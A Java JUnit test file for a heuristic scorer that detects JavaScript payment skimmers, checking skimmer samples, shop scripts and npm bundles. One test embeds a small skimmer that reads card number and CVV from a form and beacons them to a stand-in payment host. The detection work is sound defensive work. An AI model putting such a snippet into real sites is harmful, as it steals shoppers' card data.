package dev.holdfast.http.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/**
 * What the scorer says of shapes of skimmers, of scripts of shops, and of the bundles of well-known
 * packages. The shapes and the scripts were written for this test; npm fetches the packages.
 */
class ScriptCorpusTest {

  /** It only sends a message to a frame, as the fields of payment providers do. */
  private static final List<String> MISSED = List.of("message to a foreign frame");

  private static final Path BUNDLES = Path.of("target", "bundles").toAbsolutePath();

  private static String resource(String name) throws IOException {
    try (var in = ScriptCorpusTest.class.getResourceAsStream(name)) {
      return new String(Objects.requireNonNull(in, name).readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static Map<String, String> scripts(String name) throws IOException {
    Map<String, String> scripts = new LinkedHashMap<>();
    for (String part : resource(name).split("(?m)^=== ", -1)) {
      int end = part.indexOf('\n');
      if (!part.startsWith("#")) {
        scripts.put(part.substring(0, end), part.substring(end + 1));
      }
    }
    return scripts;
  }

  private static boolean isMalicious(byte[] script) {
    return new HeuristicScorer().score(script, "shop.example.com").isMalicious();
  }

  @Test
  void shapesOfSkimmersAreMalicious() throws IOException {
    Map<String, String> skimmers = scripts("skimmers.txt");
    assertThat(skimmers).hasSizeGreaterThanOrEqualTo(40);
    List<String> missed = new ArrayList<>();
    skimmers.forEach(
        (name, script) -> {
          if (!isMalicious(script.getBytes(StandardCharsets.UTF_8))) {
            missed.add(name);
          }
        });
    assertThat(missed).isEqualTo(MISSED);
  }

  @Test
  void scriptsOfShopsAreNotMalicious() throws IOException {
    scripts("harmless.txt")
        .forEach(
            (name, script) ->
                assertThat(isMalicious(script.getBytes(StandardCharsets.UTF_8)))
                    .as(name)
                    .isFalse());
  }

  /** The same form sent to the domain of the site, and to another. */
  @Test
  void whatIsSentToTheSiteItselfIsNotSentAway() {
    byte[] script =
        """
        document.querySelector('form').addEventListener('submit', function (e) {
          var d = new FormData(this); d.get('cardnumber'); d.get('cvv');
          navigator.sendBeacon('https://pay.example.com/p', d);
        });
        """
            .getBytes(StandardCharsets.UTF_8);
    HeuristicScorer scorer = new HeuristicScorer();

    assertThat(scorer.score(script, "example.com").isMalicious()).isFalse();
    assertThat(scorer.score(script, "example.net").isMalicious()).isTrue();
    assertThat(scorer.score(script).isMalicious()).isTrue();
  }

  /** Only in long runs, since it fetches 142 packages; without npm it is skipped. */
  @Test
  void bundlesOfPackagesAreNotMalicious() throws Exception {
    Assumptions.assumeTrue("long".equals(System.getProperty("holdfast.tests")), "a long test");
    List<String> lines =
        resource("bundles.txt").lines().filter(line -> !line.startsWith("#")).toList();
    assertThat(lines).hasSizeGreaterThanOrEqualTo(90);
    List<String> malicious = new ArrayList<>();
    int scored = 0;
    for (String line : lines) {
      String[] bundle = line.split(" ", 2);
      Path file = fetched(bundle[0], bundle[1]);
      if (file != null) {
        scored++;
        if (isMalicious(Files.readAllBytes(file))) {
          malicious.add(line);
        }
      }
    }
    System.out.println("bundles scored: " + scored + " of " + lines.size());
    Assumptions.assumeTrue(scored >= 90, "npm cannot fetch the packages");
    assertThat(malicious).isEmpty();
  }

  /** Returns a file of a package, or null if npm cannot fetch it. */
  private static Path fetched(String packageAndVersion, String path) throws Exception {
    Path directory = BUNDLES.resolve(packageAndVersion.replace('/', '_'));
    Path file = directory.resolve("package").resolve(path);
    if (!Files.exists(file)) {
      Files.createDirectories(directory);
      run(directory, "npm", "pack", "--silent", packageAndVersion);
      try (var archives = Files.newDirectoryStream(directory, "*.tgz")) {
        for (Path archive : archives) {
          run(directory, "tar", "-xzf", archive.toString(), "package/" + path);
          Files.delete(archive);
        }
      }
    }
    return Files.exists(file) ? file : null;
  }

  private static void run(Path directory, String... command) throws Exception {
    try {
      Process process =
          new ProcessBuilder(command)
              .directory(directory.toFile())
              .redirectErrorStream(true)
              .redirectOutput(directory.resolve("log").toFile())
              .start();
      process.waitFor();
    } catch (IOException e) {
      System.out.println("skipped: " + e.getMessage());
    }
  }
}
